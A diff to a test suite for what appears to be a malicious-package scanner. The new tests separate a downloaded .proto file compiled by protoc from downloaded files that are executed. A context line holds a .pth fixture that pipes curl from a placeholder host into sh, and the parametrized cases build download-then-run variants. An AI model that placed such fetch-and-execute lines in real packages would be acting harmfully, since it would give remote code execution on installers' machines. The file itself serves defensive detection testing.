@@ -4638,3 +4638,42 @@ def test_a_pth_the_configuration_may_put_at_the_top_still_runs(config, extra):
         "demo/assets/full.pth": b"import os; os.system('curl -s https://example.net/x | sh')\n",
     }
     assert scan(files).verdict == "malicious"
+
+
+# -- a downloaded file handed to a tool as its input --------------------------------------------
+
+PROTO_BUILD = """
+    import os
+    import pathlib
+    import subprocess
+    import sys
+
+    import requests
+
+    def build(name):
+        content = requests.get(f"https://raw.example.org/protos/{name}.proto").content
+        path = pathlib.Path("protos") / f"{name}.proto"
+        path.write_bytes(content)
+        subprocess.run(["protoc", os.fspath(path), "--python_out=."], check=True)
+"""
+
+
+def test_a_download_written_with_write_bytes_then_compiled_by_a_tool_is_its_input():
+    """tensorflow-datasets: a .proto fetched from GitHub, written with ``Path.write_bytes`` and
+    handed to ``protoc`` inside ``os.fspath(path)``: protoc's input, not a program run."""
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/build_proto.py": PROTO_BUILD}
+    result = scan(files)
+    assert severities(result, "intent.drop-payload") == {"medium"}
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["[sys.executable, os.fspath(path)]", '[os.fspath(path), "--run"]', '["bash", str(path)]'],
+)
+def test_a_written_download_run_by_an_interpreter_or_itself_still_blocks(command):
+    module = textwrap.dedent(PROTO_BUILD).replace(
+        '["protoc", os.fspath(path), "--python_out=."]', command
+    )
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/build_proto.py": module}
+    assert "high" in severities(scan(files), "intent.drop-payload")
